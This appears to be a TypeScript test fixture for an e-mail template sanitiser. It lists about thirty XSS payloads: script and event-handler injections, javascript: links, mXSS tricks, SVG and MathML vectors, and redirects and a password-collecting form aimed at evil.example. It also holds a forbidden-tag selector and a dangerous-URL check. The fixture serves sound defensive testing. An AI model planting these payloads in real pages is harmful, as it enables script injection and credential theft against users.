/**
 * RELIABILITY 15-16: hostile e-mail templates an attacker (or a careless paste) may type into the
 * template editor. A test fixture shared by the jsdom tests and the Chromium e2e
 * (tests/e2e/regua-sanitiser.e2e.ts); the app never imports it.
 *
 * Every case carries its own marker and the merge tag {{cliente}}, so a test can wait for the
 * preview of that very case ("Caso 3: Olá, Padaria Pão Quente") and see the tag survive as the
 * rendered sample value. A payload that ran would leave a trace: a `data-pwned` attribute or a
 * changed title in the preview document, a dialog, a navigation or a request to `evil.example` or
 * to `/__pwned/` on our own origin.
 */
export interface HostileTemplate {
  /** short name of the attack */
  name: string
  /** the e-mail body (HTML) as typed into the editor */
  body: string
}

const RUN = "document.documentElement.setAttribute('data-pwned','1');document.title='PWNED';alert(1)"
const BEACON = '/__pwned/'

const cases: Array<[string, string]> = [
  // scripts
  ['script', `<script>${RUN}</script>`],
  ['script src', `<SCRIPT SRC="${BEACON}script.js"></SCRIPT><script type="module">${RUN}</script>`],
  ['script in template', `<template><script>${RUN}</script><img src=x onerror="${RUN}"></template>`],
  ['noscript mXSS', `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
  // inline event handlers
  ['img onerror', `<img src="x" onerror="${RUN}">`],
  ['body onload', `<body onload="${RUN}"><p onclick="${RUN}" onmouseover="${RUN}">passe o mouse</p></body>`],
  ['details ontoggle', `<details open ontoggle="${RUN}"><summary>ver</summary>x</details>`],
  ['autofocus onfocus', `<div tabindex="0" autofocus onfocus="${RUN}">foco</div><input autofocus onfocus="${RUN}">`],
  ['media onerror', `<video src="x" onerror="${RUN}"></video><audio src="x" onerror="${RUN}"></audio>`],
  ['attribute break-out', `"><img src=x onerror="${RUN}">'><svg onload="${RUN}">`],
  // javascript: and other schemes in links
  ['javascript: link', `<a href="javascript:${RUN}">Pagar agora</a>`],
  ['obfuscated javascript: links', `<a href=" JaVaScRiPt:${RUN}">a</a><a href="java&#x09;script:alert(1)">b</a><a href="&#106;avascript:alert(1)">c</a><a href="vbscript:msgbox(1)">d</a>`],
  ['data: link', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">abrir</a><img src="javascript:alert(1)">`],
  // <base> and <meta refresh>
  ['base', `<base href="https://evil.example/"><a href="/2-via">2ª via</a><img src="logo.png">`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=https://evil.example/">`],
  ['meta refresh javascript:', `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`],
  // forms
  ['form', `<form action="https://evil.example/login" method="post"><input name="senha" type="password"><button>Pagar</button></form>`],
  ['formaction', `<form id="f"></form><button form="f" formaction="javascript:${RUN}">Pagar</button><input type="image" src="x" formaction="${BEACON}form">`],
  // SVG
  ['svg onload', `<svg onload="${RUN}"><circle r="10"></circle></svg>`],
  ['svg script', `<svg><script>${RUN}</script></svg>`],
  ['svg link', `<svg><a xlink:href="javascript:${RUN}"><text x="10" y="20">clique</text></a></svg>`],
  ['svg animate', `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate><set attributeName="onmouseover" to="alert(1)"></set></svg>`],
  ['svg foreignObject', `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`],
  // MathML
  ['mathml link', `<math><mi xlink:href="javascript:${RUN}">x</mi><maction actiontype="statusline" xlink:href="javascript:alert(1)">y</maction></math>`],
  ['mathml mXSS', `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`],
  // embedded content and styles
  ['iframe', `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ['object/embed', `<object data="data:text/html,<script>alert(1)</script>"></object><embed src="${BEACON}embed">`],
  ['link/style', `<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="${BEACON}prefetch"><style>@import url(https://evil.example/y.css);</style>`],
  ['ping', `<a href="https://boasafra.com.br" ping="${BEACON}ping">site</a>`],
  // text that only looks like markup
  ['escaped markup', `&lt;script&gt;alert(1)&lt;/script&gt;`],
  ['right-to-left override', `<p>\u202Etxt.exe\u202C</p>`],
]

export const HOSTILE_TEMPLATES: readonly HostileTemplate[] = cases.map(([name, payload], i) => ({
  name,
  body: `<p>Caso ${i + 1}: Olá, {{cliente}}</p><p>Valor: {{valor}} · <a href="{{link_2via}}">2ª via</a></p>${payload}<p>Atenciosamente, {{analista}}</p>`,
}))

/** "Caso 3: Olá, Padaria Pão Quente": the text the preview of case `index` shows. */
export const hostileMarker = (index: number) => `Caso ${index + 1}: Olá, Padaria Pão Quente`

/** Tags and attributes that must never reach the preview document. */
export const FORBIDDEN_SELECTOR =
  'script,base,meta[http-equiv="refresh" i],form,input,button,select,textarea,svg,math,iframe,frame,object,embed,link,style:not(head style),template,noscript'

/** What is left of a URL attribute after the browser drops spaces and control characters. */
export function dangerousUrl(value: string): boolean {
  return /^(?:javascript|vbscript|data):/i.test(value.replace(/[\s\u0000-\u001f]/g, ''))
}
